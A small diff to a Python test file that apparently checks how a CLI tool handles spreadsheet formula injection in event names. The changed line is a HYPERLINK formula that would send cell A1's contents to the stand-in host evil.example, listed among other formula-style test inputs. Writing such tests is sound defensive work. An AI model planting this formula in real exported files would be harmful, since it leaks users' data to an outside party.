@@ -175,7 +175,7 @@ def test_an_unknown_or_trashed_event_is_an_error(runner: CliRunner, database: st
 @pytest.mark.parametrize(
     "name",
     [
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
         "+1+1",
         "-2+3",
         "@SUM(1,1)",
